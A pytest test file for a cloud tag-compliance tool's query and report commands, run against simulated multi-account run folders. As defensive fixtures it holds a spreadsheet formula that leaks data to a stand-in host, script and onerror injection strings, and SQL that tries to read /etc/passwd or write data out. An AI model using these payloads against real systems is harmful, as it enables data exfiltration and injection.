"""`tagwarden query` and `tagwarden report` on real run folders written by `tagwarden run`.

Three runs of the real workflow (embedded engine, `workflow.cli.main(["run", ...])`) scan fleets
written here, in which instances break and get fixed. The workflow stamps `evaluated_at` with the
execution's start, so runs on different days are simulated afterwards: the first two runs get
`evaluated_at` moved 40 and 10 days back in both their `summary.json` and every line of their
`findings.jsonl` (the local tables derive `dt` from it, as the deployed workflow derives the S3
partition from the same timestamp). Every expectation is computed here in Python from the
findings files, independently of the SQL. The fleets span two accounts (two reservations with
different OwnerIds in one describe-instances dump), so the per-account queries and reports have
something to group.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections import Counter, defaultdict
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from workflow import cli
from workflow.local_query import (
    FINDINGS_COLUMNS,
    NAMED_QUERIES,
    PARTITION_KEYS,
    RUNS_COLUMNS,
    LocalDuckDB,
    run_named_query,
)

ACCOUNT = "111122223333"
SECOND_ACCOUNT = "444455556666"
GOOD = {"Owner": "ana@example.com", "CostCenter": "CC-0001", "Environment": "prod"}
HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_NAME = "<script>alert(1)</script>"
HOSTILE_TEAM = 'payments\u202e\nline two "quoted" <img src=x onerror=alert(2)>'
RUNS = ("run-a", "run-b", "run-c")
DAYS_BACK = {"run-a": 40, "run-b": 10}


def tagwarden(argv: list[str]) -> int:
    """`tagwarden ...`, as the console script runs it."""
    return cli.main(argv)


def instance(instance_id: str, region: str, tags: dict[str, str]) -> dict[str, Any]:
    return {
        "InstanceId": instance_id,
        "InstanceType": "t3.micro",
        "LaunchTime": "2025-06-01T08:00:00+00:00",
        "Placement": {"AvailabilityZone": f"{region}a", "Tenancy": "default"},
        "State": {"Code": 16, "Name": "running"},
        "Tags": [{"Key": k, "Value": v} for k, v in tags.items()],
    }


def fleet(
    *instances: tuple[str, str, dict[str, str]], second: tuple[tuple[str, str, dict[str, str]], ...] = ()
) -> dict[str, Any]:
    """ACCOUNT's instances, and ``second`` ones in SECOND_ACCOUNT."""
    reservations = [
        (ACCOUNT, "r-0000000000000001", instances),
        (SECOND_ACCOUNT, "r-0000000000000002", second),
    ]
    return {
        "Reservations": [
            {
                "OwnerId": owner,
                "ReservationId": reservation,
                "Groups": [],
                "Instances": [instance(*i) for i in members],
            }
            for owner, reservation, members in reservations
            if members
        ]
    }


HOSTILE = (
    "i-0000000000000099",
    "us-east-1",
    {**GOOD, "Owner": HOSTILE_OWNER, "Name": HOSTILE_NAME, "Team": HOSTILE_TEAM},
)
# In SECOND_ACCOUNT: i-a2 is never compliant, i-a1 breaks in run C with the same owner and the same
# missing CostCenter as i-1 in ACCOUNT, i-a3 arrives compliant in run C.
SECOND_A = (
    ("i-00000000000000a1", "us-east-1", GOOD),
    ("i-00000000000000a2", "eu-west-1", {**GOOD, "Owner": "dee@example.com", "Environment": "qa"}),
)
SECOND_C = (
    ("i-00000000000000a1", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
    SECOND_A[1],
    ("i-00000000000000a3", "us-east-1", GOOD),
)
FLEETS = {
    # i-1 never has a CostCenter; i-3 breaks, is fixed, breaks again; i-2 breaks after run A.
    "run-a": fleet(
        ("i-0000000000000001", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
        ("i-0000000000000002", "us-east-1", GOOD),
        ("i-0000000000000003", "eu-west-1", {**GOOD, "Environment": "Production"}),
        ("i-0000000000000004", "eu-west-1", {"CostCenter": "CC-0002", "Environment": "dev"}),
        HOSTILE,
        second=SECOND_A,
    ),
    "run-b": fleet(
        ("i-0000000000000001", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
        ("i-0000000000000002", "us-east-1", {**GOOD, "temp": "yes"}),
        ("i-0000000000000003", "eu-west-1", GOOD),
        ("i-0000000000000004", "eu-west-1", {"CostCenter": "CC-0002", "Environment": "dev"}),
        HOSTILE,
        second=SECOND_A,
    ),
    "run-c": fleet(
        ("i-0000000000000001", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
        ("i-0000000000000002", "us-east-1", {**GOOD, "temp": "yes", "Owner": "Cy@Example.com"}),
        ("i-0000000000000003", "eu-west-1", {"Owner": "ana@example.com", "CostCenter": "CC-0001"}),
        (
            "i-0000000000000004",
            "eu-west-1",
            {"Owner": "dee@example.com", "CostCenter": "CC-0002", "Environment": "dev"},
        ),
        ("i-0000000000000005", "eu-west-1", {"CostCenter": "nope", "Environment": "prod"}),
        ("i-0000000000000006", "eu-west-1", GOOD),
        HOSTILE,
        second=SECOND_C,
    ),
}


def rewrite_evaluated_at(run_dir: Path, when: datetime) -> None:
    """Move a run to another day: evaluated_at in its summary and in every finding."""
    stamp = when.isoformat()
    summary_path = run_dir / "summary.json"
    summary = json.loads(summary_path.read_text(encoding="utf-8"))
    summary["evaluated_at"] = stamp
    summary_path.write_text(json.dumps(summary, indent=2, ensure_ascii=False), encoding="utf-8")
    findings_path = run_dir / "findings.jsonl"
    lines = []
    for line in findings_path.read_text(encoding="utf-8").splitlines():
        finding = json.loads(line)
        finding["evaluated_at"] = stamp
        lines.append(json.dumps(finding, ensure_ascii=False, separators=(",", ":")))
    findings_path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def family_arguments(folder: Path) -> list[str]:
    """Run C also covers volumes and snapshots: a policy that lists them (CostCenter inherited from
    instance to volume and volume to snapshot), ACCOUNT's us-east-1 volumes and snapshots, and
    empty dumps, prefixed with their account and region, for the other targets (a target with no
    data for a type is not scanned)."""
    policy = json.loads(
        (Path(__file__).parents[2] / "policies" / "baseline.json").read_text(encoding="utf-8")
    )
    policy.update(
        # One exemption in force and one past its last day, for the exemption history.
        exemptions=[
            {"id": "legacy-volume", "resource_ids": ["vol-00000000000000003"], "expires": "2099-12-31"},
            {"id": "old-snapshot", "resource_ids": ["snap-00000000000000002"], "expires": "2020-01-31"},
        ],
        resource_types=["instance", "volume", "snapshot"],
        inherit=[
            {"keys": ["CostCenter"], "from": "instance", "to": ["volume"]},
            {"keys": ["CostCenter"], "from": "volume", "to": ["snapshot"]},
        ],
    )
    (folder / "family-policy.json").write_text(json.dumps(policy), encoding="utf-8")
    (folder / "volumes.json").write_text(json.dumps({"Volumes": FAMILY_VOLUMES}), encoding="utf-8")
    (folder / "snapshots.json").write_text(json.dumps({"Snapshots": FAMILY_SNAPSHOTS}), encoding="utf-8")
    (folder / "empty-volumes.json").write_text('{"Volumes": []}', encoding="utf-8")
    (folder / "empty-snapshots.json").write_text('{"Snapshots": []}', encoding="utf-8")
    arguments = [
        "--policy",
        str(folder / "family-policy.json"),
        "--fleet",
        f"{ACCOUNT}:{folder / 'volumes.json'}",
        "--fleet",
        f"us-east-1:{folder / 'snapshots.json'}",
    ]
    for account, region in (
        (ACCOUNT, "eu-west-1"),
        (SECOND_ACCOUNT, "us-east-1"),
        (SECOND_ACCOUNT, "eu-west-1"),
    ):
        for name in ("empty-volumes.json", "empty-snapshots.json"):
            arguments += ["--fleet", f"{account}:{region}:{folder / name}"]
    return arguments


GOOD_TAGS = [{"Key": k, "Value": v} for k, v in GOOD.items()]
FAMILY_VOLUMES = [
    # On i-2 (CostCenter CC-0001) with its tags: compliant.
    {
        "VolumeId": "vol-00000000000000001",
        "AvailabilityZone": "us-east-1a",
        "CreateTime": "2025-06-01T08:00:00+00:00",
        "Size": 50,
        "VolumeType": "gp3",
        "State": "in-use",
        "Attachments": [{"InstanceId": "i-0000000000000002", "AttachTime": "2025-06-01T08:00:00+00:00"}],
        "Tags": GOOD_TAGS,
    },
    # On i-2 with another CostCenter: not_inherited.
    {
        "VolumeId": "vol-00000000000000002",
        "AvailabilityZone": "us-east-1a",
        "CreateTime": "2025-06-01T08:00:00+00:00",
        "Size": 200,
        "VolumeType": "io2",
        "State": "in-use",
        "Attachments": [{"InstanceId": "i-0000000000000002", "AttachTime": "2025-06-01T08:00:00+00:00"}],
        "Tags": [*GOOD_TAGS[:1], {"Key": "CostCenter", "Value": "CC-0009"}, GOOD_TAGS[2]],
    },
    # Unattached, never tagged.
    {
        "VolumeId": "vol-00000000000000003",
        "AvailabilityZone": "us-east-1b",
        "CreateTime": "2025-01-01T08:00:00+00:00",
        "Size": 500,
        "VolumeType": "gp2",
        "State": "available",
        "Attachments": [],
        "Tags": [],
    },
]
FAMILY_SNAPSHOTS = [
    # Of vol-...2 without its CostCenter; and of a deleted volume, untagged.
    {
        "SnapshotId": "snap-00000000000000001",
        "OwnerId": ACCOUNT,
        "StartTime": "2025-07-01T02:00:00+00:00",
        "State": "completed",
        "VolumeId": "vol-00000000000000002",
        "VolumeSize": 200,
        "Tags": [GOOD_TAGS[0], GOOD_TAGS[2]],
    },
    {
        "SnapshotId": "snap-00000000000000002",
        "OwnerId": ACCOUNT,
        "StartTime": "2025-07-01T02:00:00+00:00",
        "State": "completed",
        "VolumeId": "vol-0000000000000dead",
        "VolumeSize": 80,
        "Tags": [],
    },
]


@pytest.fixture(scope="module")
def runs_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("tagwarden-out")
    fleets = tmp_path_factory.mktemp("fleets")
    now = datetime.now(UTC)
    for run_id in RUNS:
        path = fleets / f"{run_id}.json"
        path.write_text(json.dumps(FLEETS[run_id]), encoding="utf-8")
        extra = family_arguments(fleets) if run_id == "run-c" else []
        status = tagwarden(
            [
                "run",
                "--fleet",
                str(path),
                *extra,
                "--out",
                str(out),
                "--name",
                run_id,
                "--json",
                "--notify",
                "never",
            ]
        )
        assert status == 0
        if run_id in DAYS_BACK:
            rewrite_evaluated_at(out / run_id, now - timedelta(days=DAYS_BACK[run_id]))
    # A dry run (its report never reaches Athena) that is newer than everything else, and the
    # folder of a failed execution (history only): both stay out of the tables.
    shutil.copytree(out / "run-c", out / "run-dry")
    dry = json.loads((out / "run-dry" / "summary.json").read_text(encoding="utf-8"))
    dry.update(run_id="run-dry", dry_run=True, evaluated_at=(now + timedelta(minutes=5)).isoformat())
    (out / "run-dry" / "summary.json").write_text(json.dumps(dry), encoding="utf-8")
    (out / "run-failed").mkdir()
    (out / "run-failed" / "history.json").write_text("[]", encoding="utf-8")
    return out


def findings_of(runs_dir: Path, run_id: str) -> list[dict[str, Any]]:
    lines = (runs_dir / run_id / "findings.jsonl").read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines if line.strip()]


def summary_of(runs_dir: Path, run_id: str) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((runs_dir / run_id / "summary.json").read_text(encoding="utf-8"))
    return document


def dt_of(stamp: str) -> str:
    return datetime.fromisoformat(stamp).astimezone(UTC).date().isoformat()


def all_findings(runs_dir: Path) -> list[dict[str, Any]]:
    return [{**f, "dt": dt_of(f["evaluated_at"])} for run in RUNS for f in findings_of(runs_dir, run)]


def latest(runs_dir: Path) -> list[dict[str, Any]]:
    newest = max(RUNS, key=lambda r: summary_of(runs_dir, r)["evaluated_at"])
    assert newest == "run-c"
    return findings_of(runs_dir, newest)


def percentage(compliant: int, total: int) -> float:
    return round(100 * compliant / total, 2)


def violations(finding: dict[str, Any]) -> list[dict[str, Any]]:
    fields = ("code", "key", "value", "message", "parent_id", "expected")
    return [{field: v.get(field) for field in fields} for v in finding["violations"]]


# -- what each named query should return, computed from the findings files ------------------------


def expect_latest_run(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    rows = [f for f in latest(runs_dir) if not f["compliant"]]
    rows.sort(
        key=lambda f: (
            f["owner"] is None,
            f["owner"] or "",
            f["account_id"],
            f["region"],
            f["resource_type"],
            f["resource_id"],
        )
    )
    return [
        (
            f["account_id"],
            f["region"],
            f["resource_type"],
            f["resource_id"],
            f["instance_id"],
            f["name"],
            f["owner"],
            f.get("instance_type"),
            f.get("size_gib"),
            f.get("attached_to"),
            f["state"],
            f.get("launch_time"),
            violations(f),
            f["policy_name"],
            f["run_id"],
            f["evaluated_at"],
        )
        for f in rows
    ]


def _grouped(
    findings: list[dict[str, Any]], key: Callable[[dict[str, Any]], Any]
) -> dict[Any, list[dict[str, Any]]]:
    groups: dict[Any, list[dict[str, Any]]] = defaultdict(list)
    for f in findings:
        groups[key(f)].append(f)
    return groups


def expect_by_owner(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    groups = _grouped(latest(runs_dir), lambda f: (f["owner"] or "").strip() or "(no owner)")
    rows = []
    for owner, members in groups.items():
        bad = sum(not f["compliant"] for f in members)
        if bad:
            rows.append((owner, len(members), bad, percentage(len(members) - bad, len(members))))
    return sorted(rows, key=lambda r: (-r[2], r[0]))


def expect_by_region(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    groups = _grouped(latest(runs_dir), lambda f: (f["account_id"], f["region"]))
    rows = []
    for (account, region), members in groups.items():
        bad = sum(not f["compliant"] for f in members)
        rows.append((account, region, len(members), bad, percentage(len(members) - bad, len(members))))
    return sorted(rows, key=lambda r: (-r[3], r[0], r[1]))


def expect_by_rule(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    instances: dict[tuple[str, str], set[str]] = defaultdict(set)
    count: Counter[tuple[str, str]] = Counter()
    for f in latest(runs_dir):
        if f["compliant"]:
            continue
        for v in f["violations"]:
            instances[(v["key"], v["code"])].add(f["resource_id"])
            count[(v["key"], v["code"])] += 1
    rows = [(key, code, len(ids), count[(key, code)]) for (key, code), ids in instances.items()]
    return sorted(rows, key=lambda r: (-r[2], r[0], r[1]))


def expect_trend(runs_dir: Path, params: dict[str, int]) -> list[tuple[Any, ...]]:
    days = params.get("days", 90)
    today = datetime.now(UTC).date()
    by_day: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for run in RUNS:
        summary = summary_of(runs_dir, run)
        by_day[dt_of(summary["evaluated_at"])].append(summary)
    rows = []
    for day, summaries in sorted(by_day.items()):
        if (today - date.fromisoformat(day)).days > days:
            continue
        last = max(summaries, key=lambda s: s["evaluated_at"])
        totals = last["totals"]
        rows.append(
            (
                day,
                len(summaries),
                last["run_id"],
                totals["total"],
                totals["noncompliant"],
                totals["exempt"],
                totals["compliance_percentage"],
            )
        )
    return rows


def expect_longer_than(runs_dir: Path, params: dict[str, int]) -> list[tuple[Any, ...]]:
    days = params.get("days", 30)
    today = datetime.now(UTC).date()
    history = all_findings(runs_dir)
    rows = []
    for f in latest(runs_dir):
        if f["compliant"]:
            continue
        key = (f["account_id"], f["region"], f["resource_id"])
        mine = [h for h in history if (h["account_id"], h["region"], h["resource_id"]) == key]
        last_ok = max((h["dt"] for h in mine if h["compliant"]), default=None)
        since = min(h["dt"] for h in mine if not h["compliant"] and (last_ok is None or h["dt"] > last_ok))
        age = (today - date.fromisoformat(since)).days
        if age > days:
            rows.append(
                (
                    f["account_id"],
                    f["region"],
                    f["resource_type"],
                    f["resource_id"],
                    f["name"],
                    f["owner"],
                    since,
                    age,
                    violations(f),
                )
            )
    return sorted(rows, key=lambda r: (-r[7], r[5] is None, r[5] or "", r[3]))


def expect_by_resource_type(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    groups = _grouped(latest(runs_dir), lambda f: f["resource_type"])
    rows = []
    for kind, members in groups.items():
        bad = [f for f in members if not f["compliant"]]
        gib = sum(f.get("size_gib") or 0 for f in bad)
        rows.append((kind, len(members), len(bad), percentage(len(members) - len(bad), len(members)), gib))
    return sorted(rows, key=lambda r: (-r[2], r[0]))


def expect_untagged_ebs(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    ebs = [f for f in latest(runs_dir) if not f["compliant"] and f["resource_type"] in ("volume", "snapshot")]
    groups = _grouped(ebs, lambda f: (f["account_id"], f["region"], f["owner"] or "(no owner)"))
    rows = []
    for (account, region, owner), members in groups.items():
        volumes = sum(f["size_gib"] for f in members if f["resource_type"] == "volume")
        snapshots = sum(f["size_gib"] for f in members if f["resource_type"] == "snapshot")
        rows.append((account, region, owner, volumes, snapshots, volumes + snapshots, len(members)))
    return sorted(rows, key=lambda r: (-r[5], r[0], r[1], r[2]))


def _worst_rule(findings: list[dict[str, Any]]) -> tuple[str | None, int | None]:
    breaking: dict[str, set[str]] = defaultdict(set)
    for f in findings:
        if not f["compliant"]:
            for v in f["violations"]:
                breaking[f"{v['key']}:{v['code']}"].add(f["resource_id"])
    if not breaking:
        return None, None
    worst = min(breaking, key=lambda rule: (-len(breaking[rule]), rule))
    return worst, len(breaking[worst])


def expect_by_account(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    rows = []
    for account, members in _grouped(latest(runs_dir), lambda f: f["account_id"]).items():
        bad = sum(not f["compliant"] for f in members)
        regions = len({f["region"] for f in members})
        rows.append(
            (
                account,
                regions,
                len(members),
                bad,
                percentage(len(members) - bad, len(members)),
                *_worst_rule(members),
            )
        )
    return sorted(rows, key=lambda r: (-r[3], r[0]))


def expect_by_account_and_owner(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    groups = _grouped(
        latest(runs_dir), lambda f: (f["account_id"], (f["owner"] or "").strip() or "(no owner)")
    )
    rows = []
    for (account, owner), members in groups.items():
        bad = sum(not f["compliant"] for f in members)
        if bad:
            rows.append((account, owner, len(members), bad, percentage(len(members) - bad, len(members))))
    return sorted(rows, key=lambda r: (r[0], -r[3], r[1]))


def expect_by_account_and_rule(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    instances: dict[tuple[str, str, str], set[str]] = defaultdict(set)
    count: Counter[tuple[str, str, str]] = Counter()
    for f in latest(runs_dir):
        if f["compliant"]:
            continue
        for v in f["violations"]:
            instances[(f["account_id"], v["key"], v["code"])].add(f["resource_id"])
            count[(f["account_id"], v["key"], v["code"])] += 1
    rows = [(a, key, code, len(ids), count[(a, key, code)]) for (a, key, code), ids in instances.items()]
    return sorted(rows, key=lambda r: (r[0], -r[3], r[1], r[2]))


def expect_trend_by_account(runs_dir: Path, params: dict[str, int]) -> list[tuple[Any, ...]]:
    days = params.get("days", 90)
    today = datetime.now(UTC).date()
    per_day: dict[tuple[str, str], list[tuple[str, str, list[dict[str, Any]]]]] = defaultdict(list)
    for run in RUNS:
        for account, members in _grouped(findings_of(runs_dir, run), lambda f: f["account_id"]).items():
            stamp = members[0]["evaluated_at"]
            per_day[(dt_of(stamp), account)].append((stamp, run, members))
    rows = []
    for (day, account), scans in sorted(per_day.items()):
        if (today - date.fromisoformat(day)).days > days:
            continue
        _, run, members = max(scans)
        bad = sum(not f["compliant"] for f in members)
        exempt = sum(bool(f["exempt"]) for f in members)
        rows.append(
            (
                day,
                account,
                len(scans),
                run,
                len(members),
                bad,
                exempt,
                percentage(len(members) - bad, len(members)),
            )
        )
    return rows


def expect_exemption_history(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
    rows = []
    for run_id in RUNS:
        summary = summary_of(runs_dir, run_id)
        named = [f for f in findings_of(runs_dir, run_id) if f.get("exemption")]
        groups = _grouped(named, lambda f: (f["exemption"]["id"], f["exemption"]["expires"]))
        for (exemption, expires), members in groups.items():
            expired = sum(bool(f["exemption"]["expired"]) for f in members)
            rows.append(
                (
                    summary["evaluated_at"],
                    run_id,
                    summary.get("source") or "scheduled",
                    exemption,
                    expires,
                    len(members) - expired,
                    expired,
                )
            )
    rows.sort(key=lambda r: (r[1], r[3]))
    rows.sort(key=lambda r: r[0], reverse=True)  # newest first, stable on run and exemption
    return rows


EXPECTATIONS: dict[str, tuple[Callable[[Path, dict[str, int]], list[tuple[Any, ...]]], tuple[str, ...]]] = {
    "noncompliant_by_resource_type": (
        expect_by_resource_type,
        ("resource_type", "resources", "noncompliant", "compliance_percentage", "noncompliant_gib"),
    ),
    "exemption_history": (
        expect_exemption_history,
        ("evaluated_at", "run_id", "source", "exemption", "expires", "exempted", "expired"),
    ),
    "untagged_ebs_gib": (
        expect_untagged_ebs,
        ("account_id", "region", "owner", "volume_gib", "snapshot_gib", "total_gib", "resources"),
    ),
    "noncompliant_latest_run": (
        expect_latest_run,
        (
            "account_id",
            "region",
            "resource_type",
            "resource_id",
            "instance_id",
            "name",
            "owner",
            "instance_type",
            "size_gib",
            "attached_to",
            "state",
            "launch_time",
            "violations",
            "policy_name",
            "run_id",
            "evaluated_at",
        ),
    ),
    "noncompliant_by_owner": (
        expect_by_owner,
        ("owner", "instances", "noncompliant", "compliance_percentage"),
    ),
    "noncompliant_by_region": (
        expect_by_region,
        ("account_id", "region", "instances", "noncompliant", "compliance_percentage"),
    ),
    "noncompliant_by_rule": (expect_by_rule, ("tag_key", "violation", "instances", "violations")),
    "compliance_trend_daily": (
        expect_trend,
        ("day", "runs", "last_run_id", "evaluated", "noncompliant", "exempt", "compliance_percentage"),
    ),
    "compliance_by_account": (
        expect_by_account,
        (
            "account_id",
            "regions",
            "instances",
            "noncompliant",
            "compliance_percentage",
            "worst_rule",
            "worst_rule_instances",
        ),
    ),
    "noncompliant_by_account_and_owner": (
        expect_by_account_and_owner,
        ("account_id", "owner", "instances", "noncompliant", "compliance_percentage"),
    ),
    "noncompliant_by_account_and_rule": (
        expect_by_account_and_rule,
        ("account_id", "tag_key", "violation", "instances", "violations"),
    ),
    "compliance_trend_by_account": (
        expect_trend_by_account,
        (
            "day",
            "account_id",
            "runs",
            "last_run_id",
            "evaluated",
            "noncompliant",
            "exempt",
            "compliance_percentage",
        ),
    ),
    "noncompliant_longer_than_days": (
        expect_longer_than,
        (
            "account_id",
            "region",
            "resource_type",
            "resource_id",
            "name",
            "owner",
            "noncompliant_since",
            "days_noncompliant",
            "violations",
        ),
    ),
}
CASES = [(name, {}) for name in EXPECTATIONS] + [
    ("compliance_trend_daily", {"days": 20}),
    ("compliance_trend_by_account", {"days": 20}),
    ("noncompliant_longer_than_days", {"days": 5}),
    ("noncompliant_longer_than_days", {"days": 0}),
]


def test_every_named_query_has_an_expectation() -> None:
    assert set(EXPECTATIONS) == set(NAMED_QUERIES)


def test_the_scenario_really_spans_days_and_changes(runs_dir: Path) -> None:
    days = sorted({dt_of(summary_of(runs_dir, r)["evaluated_at"]) for r in RUNS})
    assert len(days) == 3
    assert sorted(summary_of(runs_dir, "run-c")["by_account"]) == [ACCOUNT, SECOND_ACCOUNT]
    owners = {(f["account_id"], f["owner"]) for f in latest(runs_dir) if not f["compliant"]}
    assert {(ACCOUNT, "bo@example.com"), (SECOND_ACCOUNT, "bo@example.com")} <= owners
    assert expect_longer_than(runs_dir, {"days": 30})  # someone has been noncompliant for 40 days
    assert len(expect_longer_than(runs_dir, {"days": 5})) > len(expect_longer_than(runs_dir, {"days": 30}))


@pytest.mark.parametrize(("name", "params"), CASES, ids=[f"{n}-{p}" if p else n for n, p in CASES])
def test_named_query_returns_what_the_findings_files_imply(
    runs_dir: Path, name: str, params: dict[str, int]
) -> None:
    expect, columns = EXPECTATIONS[name]
    with LocalDuckDB(runs_dir) as backend:
        result = run_named_query(name, backend=backend, params=params)
    assert result.columns == columns
    rows = [
        tuple(pytest.approx(v) if isinstance(v, float) else v for v in row)
        for row in expect(runs_dir, params)
    ]
    assert result.rows == rows
    assert result.rows, f"{name} {params} returned nothing: the scenario should exercise it"


def test_tables_have_the_glue_columns_and_types_then_dt_and_run(runs_dir: Path) -> None:
    with LocalDuckDB(runs_dir) as backend:
        for table, columns in (("findings", FINDINGS_COLUMNS), ("runs", RUNS_COLUMNS)):
            described = backend.execute(f"DESCRIBE {table}", []).rows
            assert [row[0] for row in described] == [c for c, _ in columns] + [c for c, _ in PARTITION_KEYS]
        assert backend.execute("SELECT typeof(tags), typeof(violations) FROM findings LIMIT 1", []).rows == [
            (
                "MAP(VARCHAR, VARCHAR)",
                'STRUCT(code VARCHAR, "key" VARCHAR, "value" VARCHAR, message VARCHAR, parent_id VARCHAR, expected VARCHAR)[]',
            )
        ]


def test_local_schema_is_the_cdk_catalog_schema() -> None:
    catalog = pytest.importorskip(
        "cdk.tagwarden_cdk.catalog", reason="the CDK catalog is not in this checkout"
    )
    assert [(n, t) for n, t, _ in catalog.FINDINGS_COLUMNS] == list(FINDINGS_COLUMNS)
    assert [(n, t) for n, t, _ in catalog.RUNS_COLUMNS] == list(RUNS_COLUMNS)
    assert [(n, t) for n, t, _ in catalog.PARTITION_KEYS] == list(PARTITION_KEYS)


def test_dt_and_run_come_from_evaluated_at_and_run_id_and_dry_runs_are_left_out(runs_dir: Path) -> None:
    with LocalDuckDB(runs_dir) as backend:
        runs = backend.execute("SELECT run, dt FROM runs ORDER BY evaluated_at", []).rows
        per_run = backend.execute("SELECT run, dt, count(*) FROM findings GROUP BY ALL ORDER BY run", []).rows
    assert runs == [(r, dt_of(summary_of(runs_dir, r)["evaluated_at"])) for r in RUNS]
    assert per_run == [
        (r, dt_of(summary_of(runs_dir, r)["evaluated_at"]), len(findings_of(runs_dir, r))) for r in RUNS
    ]


def test_hostile_tag_values_come_back_from_the_tables_unchanged(runs_dir: Path) -> None:
    with LocalDuckDB(runs_dir) as backend:
        rows = backend.execute(
            "SELECT owner, name, element_at(tags, 'Team') FROM findings WHERE instance_id = ? ORDER BY run",
            ["i-0000000000000099"],
        ).rows
    assert rows == [(HOSTILE_OWNER, HOSTILE_NAME, HOSTILE_TEAM)] * 3


# -- the command line ------------------------------------------------------------------------------


def test_query_cli_prints_json_rows_and_binds_parameters(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = [
        "query",
        "noncompliant_longer_than_days",
        "--local",
        str(runs_dir),
        "--param",
        "days=5",
        "--format",
        "json",
    ]
    assert tagwarden(argv) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [(r["resource_id"], r["days_noncompliant"]) for r in rows] == [
        (r[3], r[7]) for r in expect_longer_than(runs_dir, {"days": 5})
    ]


def test_query_cli_csv_neutralises_a_hostile_owner(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden(["query", "noncompliant_by_owner", "--local", str(runs_dir), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    owners = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE_OWNER in owners and HOSTILE_OWNER not in owners


def test_query_cli_runs_raw_sql_over_both_tables(runs_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = "SELECT r.run_id, count(*) AS n FROM runs r JOIN findings f ON f.run = r.run GROUP BY 1 ORDER BY 1"
    assert tagwarden(["query", sql, "--local", str(runs_dir), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {"run_id": r, "n": len(findings_of(runs_dir, r))} for r in RUNS
    ]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["query", "no_such_query"], "query: no named query 'no_such_query'; named queries: "),
        (
            ["query", "noncompliant_by_rule", "--param", "days=3"],
            "--param: query 'noncompliant_by_rule' has no parameter days",
        ),
        (
            ["query", "noncompliant_longer_than_days", "--param", "days=soon"],
            "--param days: must be an integer, got 'soon'",
        ),
        (["query", "SELECT * FROM read_csv('/etc/passwd')"], "query: Permission Error: Cannot access file"),
        (
            ["query", "COPY findings TO '/tmp/tagwarden-leak.csv'"],
            "query: Permission Error: Cannot access file",
        ),
        (["query", "SELEC 1"], "query: Parser Error: syntax error"),
        (["report", "--run", "no-such-run"], "--run: no run 'no-such-run' in "),
    ],
    ids=["unknown-query", "unknown-param", "bad-param", "read-file", "write-file", "bad-sql", "unknown-run"],
)
def test_bad_queries_and_runs_are_one_line_and_exit_2(
    runs_dir: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert tagwarden([*argv, "--local", str(runs_dir)]) == 2
    captured = capsys.readouterr()
    [line] = captured.err.strip().splitlines()
    assert line.startswith(message)
    assert "Traceback" not in captured.err and captured.out == ""


def test_a_folder_without_runs_is_one_line_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden(["query", "noncompliant_by_rule", "--local", str(tmp_path)]) == 2
    assert tagwarden(["report", "--local", str(tmp_path / "missing")]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"--local: no run folders in {tmp_path} (run 'tagwarden run --out {tmp_path}' first)",
        f"--local: {tmp_path / 'missing'} is not a directory",
    ]


def test_report_json_is_the_latest_run_by_default_and_any_run_with_run(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden(["report", "--local", str(runs_dir), "--format", "json"]) == 0
    latest_report = json.loads(capsys.readouterr().out)
    assert latest_report["run_id"] == "run-dry"  # the newest folder, dry run or not, is what report shows
    assert tagwarden(["report", "--local", str(runs_dir), "--run", "run-a", "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["summary"] == summary_of(runs_dir, "run-a")
    assert report["findings"] == findings_of(runs_dir, "run-a")


def test_report_csv_has_every_finding_with_formula_cells_neutralised(runs_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    assert (
        tagwarden(
            ["report", "--local", str(runs_dir), "--run", "run-c", "--format", "csv", "--out", str(out)]
        )
        == 0
    )
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    # Grouped by account, in the run's order within each account.
    by_account = sorted(findings_of(runs_dir, "run-c"), key=lambda f: f["account_id"])
    assert [(r["account_id"], r["resource_type"], r["resource_id"]) for r in rows] == [
        (f["account_id"], f["resource_type"], f["resource_id"]) for f in by_account
    ]
    assert {r["size_gib"] for r in rows if r["resource_type"] == "volume"} == {"50", "200", "500"}
    hostile = next(r for r in rows if r["instance_id"] == "i-0000000000000099")
    assert hostile["owner"] == "'" + HOSTILE_OWNER
    assert hostile["name"] == HOSTILE_NAME
